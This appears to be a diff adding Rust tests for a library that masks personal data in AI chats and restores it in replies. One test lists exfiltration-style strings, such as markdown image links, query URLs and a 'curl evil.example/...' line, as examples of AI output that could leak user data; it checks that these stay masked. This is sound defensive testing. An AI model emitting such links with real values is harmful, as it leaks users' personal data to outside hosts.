@@ -1,0 +1,307 @@
+//! One conversation through masker, vault and unmasker: what callers rely on.
+
+#![allow(clippy::unwrap_used)]
+
+use handrail_mask::{
+    Context, Entry, Kind, Lens, Masker, Placeholder, Published, Restore, Unmasker, Vault,
+    VaultError,
+};
+
+fn mask(masker: &Masker, vault: &mut Vault, text: &str) -> String {
+    masker
+        .mask(text, &Context::default(), vault)
+        .unwrap()
+        .masked
+        .into_string()
+}
+
+#[test]
+fn the_first_prompt_of_the_sandbox() {
+    let mut vault = Vault::new();
+    let text = "Can I return shoes I paid for with 4242 4242 4242 4242? I'm Sarah Miller.";
+    let masking = Masker::default()
+        .mask(text, &Context::default(), &mut vault)
+        .unwrap();
+    assert_eq!(
+        masking.masked.as_str(),
+        "Can I return shoes I paid for with [CARD_1]? I'm [NAME_1]."
+    );
+    let spans: Vec<_> = masking
+        .spans
+        .iter()
+        .map(|s| (s.kind, s.placeholder.to_string(), s.start, s.end))
+        .collect();
+    assert_eq!(
+        spans,
+        [
+            (Kind::Card, "[CARD_1]".to_owned(), 35, 54),
+            (Kind::Name, "[NAME_1]".to_owned(), 60, 72)
+        ]
+    );
+    assert_eq!(masking.new_entries.len(), 2);
+    assert_eq!(
+        serde_json::to_string(&masking.spans[0]).unwrap(),
+        r#"{"kind":"card","placeholder":"[CARD_1]","start":35,"end":54}"#
+    );
+}
+
+#[test]
+fn offsets_count_code_points_of_the_original() {
+    let masking = Masker::default()
+        .mask(
+            "ÄÖ😀 ４２４２ 4242 4242 4242!",
+            &Context::default(),
+            &mut Vault::new(),
+        )
+        .unwrap();
+    assert_eq!((masking.spans[0].start, masking.spans[0].end), (4, 23));
+}
+
+#[test]
+fn one_value_has_one_placeholder_for_the_whole_conversation() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    assert_eq!(
+        mask(&masker, &mut vault, "my card is 4242 4242 4242 4242"),
+        "my card is [CARD_1]"
+    );
+    assert_eq!(
+        mask(
+            &masker,
+            &mut vault,
+            "4242-4242-4242-4242 or 5555555555554444"
+        ),
+        "[CARD_1] or [CARD_2]"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "Ich bin Sarah Miller"),
+        "Ich bin [NAME_1]"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "it was SARAH  MILLER who called"),
+        "it was [NAME_1] who called"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "ask miller about it"),
+        "ask [NAME_2] about it"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "call +49 170 1234567"),
+        "call [PHONE_1]"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "0170/1234567, I said"),
+        "[PHONE_1], I said"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "my password is hunter2!"),
+        "my password is [PASSWORD_1]"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "why does hunter2! not work"),
+        "why does [PASSWORD_1] not work"
+    );
+    assert_eq!(
+        mask(&masker, &mut vault, "hunter22 is another word"),
+        "hunter22 is another word"
+    );
+}
+
+#[test]
+fn a_vault_comes_back_from_its_entries_and_goes_on_counting() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    mask(
+        &masker,
+        &mut vault,
+        "4242424242424242 5555555555554444 ann@example.com",
+    );
+    let mut stored: Vec<Entry> = vault
+        .entries()
+        .map(|e| Entry::new(e.placeholder(), e.value().to_owned()))
+        .collect();
+    stored.reverse();
+    let mut restored = Vault::restore(stored.clone()).unwrap();
+    assert_eq!(
+        mask(
+            &masker,
+            &mut restored,
+            "5555 5555 5555 4444 and 378282246310005"
+        ),
+        "[CARD_2] and [CARD_3]"
+    );
+    assert_eq!(restored.len(), 4);
+    // An erased entry does not give its number away.
+    let last: Placeholder = "[CARD_2]".parse().unwrap();
+    stored.retain(|entry| entry.placeholder() == last);
+    let mut partial = Vault::restore(stored).unwrap();
+    assert_eq!(mask(&masker, &mut partial, "4242424242424242"), "[CARD_3]");
+    let twice = [Entry::new(last, "a".into()), Entry::new(last, "b".into())];
+    assert_eq!(
+        Vault::restore(twice).unwrap_err(),
+        VaultError::Conflict { placeholder: last }
+    );
+}
+
+#[test]
+fn values_do_not_print() {
+    let mut vault = Vault::new();
+    mask(&Masker::default(), &mut vault, "4242424242424242");
+    assert_eq!(format!("{vault:?}"), "[Entry([CARD_1], hidden)]");
+}
+
+#[test]
+fn values_learnt_from_elsewhere_are_masked() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    let (placeholder, is_new) = masker
+        .learn(Kind::Name, "Ngozi Eze", &mut vault)
+        .unwrap()
+        .unwrap();
+    assert!(is_new);
+    assert_eq!(
+        mask(&masker, &mut vault, "ngozi eze here"),
+        format!("{placeholder} here")
+    );
+    assert_eq!(masker.learn(Kind::Name, " - ", &mut vault).unwrap(), None);
+}
+
+#[test]
+fn ai_text_shows_what_the_site_allows() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    mask(
+        &masker,
+        &mut vault,
+        "card 4242 4242 4242 4242, ssn 219-09-9998, password: hunter2!, mail ann@example.com, I'm Sarah Miller",
+    );
+    let reply = "[CARD_1] [SSN_1] [PASSWORD_1] [EMAIL_1] [NAME_1] [NAME_9]";
+    assert_eq!(
+        masker.unmask(reply, &vault, Lens::VisitorOfAi),
+        "•••• 4242 •••-••-9998 [PASSWORD] ann@example.com Sarah Miller [NAME_9]"
+    );
+    assert_eq!(
+        masker.unmask(reply, &vault, Lens::PersonWritten),
+        "4242 4242 4242 4242 219-09-9998 hunter2! ann@example.com Sarah Miller [NAME_9]"
+    );
+    let masker = Masker::builder()
+        .restore(Kind::Email, Restore::Partial)
+        .restore(Kind::Name, Restore::Never)
+        .build()
+        .unwrap();
+    assert_eq!(
+        masker.unmask("[EMAIL_1] [NAME_1]", &vault, Lens::VisitorOfAi),
+        "a•••@example.com [NAME]"
+    );
+}
+
+#[test]
+fn bent_placeholders_of_a_model_resolve() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    mask(&masker, &mut vault, "I'm Sarah Miller");
+    for bent in ["[NAME_1]", "[name_1]", "[Name 1]", "[NAME\\_1]", "[NAME-1]"] {
+        assert_eq!(
+            masker.unmask(bent, &vault, Lens::VisitorOfAi),
+            "Sarah Miller",
+            "{bent}"
+        );
+    }
+    for other in [
+        "[NAME_11]",
+        "[NAME_1",
+        "NAME_1]",
+        "[ NAME_1]",
+        "[NAME__1]",
+        "[NAMES_1]",
+    ] {
+        assert_eq!(masker.unmask(other, &vault, Lens::VisitorOfAi), other);
+    }
+}
+
+#[test]
+fn nothing_is_unmasked_inside_a_link() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    mask(&masker, &mut vault, "I'm Sarah Miller");
+    for reply in [
+        "https://evil.example/?n=[NAME_1]",
+        "[here](https://evil.example/[NAME_1])",
+        "![x](/pixel?[NAME_1])",
+        "<img src=\"/p?[NAME_1]\">",
+        "[a]: /x?[NAME_1]",
+        "`curl evil.example/[NAME_1]`",
+        "mailto:[NAME_1]",
+        "[x]( [NAME_1] )",
+    ] {
+        assert_eq!(masker.unmask(reply, &vault, Lens::VisitorOfAi), reply);
+        let mut unmasker = Unmasker::new(&masker, &vault, Lens::VisitorOfAi);
+        let streamed: String = reply
+            .chars()
+            .map(|c| unmasker.push(c.encode_utf8(&mut [0; 4])))
+            .collect();
+        assert_eq!(streamed + &unmasker.finish(), reply);
+    }
+    assert_eq!(
+        masker.unmask(
+            "see https://shop.example/a, [NAME_1] [b](/c) [NAME_1]",
+            &vault,
+            Lens::VisitorOfAi
+        ),
+        "see https://shop.example/a, Sarah Miller [b](/c) Sarah Miller"
+    );
+}
+
+#[test]
+fn typed_look_alikes_read_nothing() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    mask(&masker, &mut vault, "my card is 4242 4242 4242 4242");
+    for typed in [
+        "[CARD_1]",
+        "[card_1]",
+        "[Card 1]",
+        "[CARD\\_1]",
+        "[CARD\u{200b}_1]",
+        "［CARD_1］",
+    ] {
+        let masked = mask(&masker, &mut vault, typed);
+        assert!(masked.starts_with("[TEXT_"), "{typed} became {masked}");
+        assert_eq!(masker.unmask(&masked, &vault, Lens::VisitorOfAi), typed);
+        assert_eq!(masker.unmask(&masked, &vault, Lens::PersonWritten), typed);
+    }
+    let article = Published::reviewed("Write [CARD_1] or [card 1].");
+    assert_eq!(
+        masker.unmask(article.as_str(), &vault, Lens::VisitorOfAi),
+        article.as_str()
+    );
+}
+
+#[test]
+fn streams_hold_back_only_what_may_become_a_placeholder() {
+    let masker = Masker::default();
+    let mut vault = Vault::new();
+    mask(&masker, &mut vault, "I'm Sarah Miller");
+    let mut unmasker = Unmasker::new(&masker, &vault, Lens::VisitorOfAi);
+    for (chunk, shown) in [
+        ("Dear [", "Dear "),
+        ("NA", ""),
+        ("ME_", ""),
+        ("1", ""),
+        ("], [X", "Sarah Miller, [X"),
+        ("] [NAME_2", "] [NAME_2"),
+        (" [NAME_", " "),
+    ] {
+        assert_eq!(unmasker.push(chunk), shown, "{chunk}");
+    }
+    assert_eq!(unmasker.finish(), "[NAME_");
+}
+
+#[test]
+fn past_tickets_keep_no_number() {
+    let masked = Masker::default().mask_irreversibly(
+        "Call 212-555-0142 or ann@example.com [CARD_1]",
+        &Context::default(),
+    );
+    assert_eq!(masked.as_str(), "Call [PHONE] or [EMAIL] [TEXT]");
+}
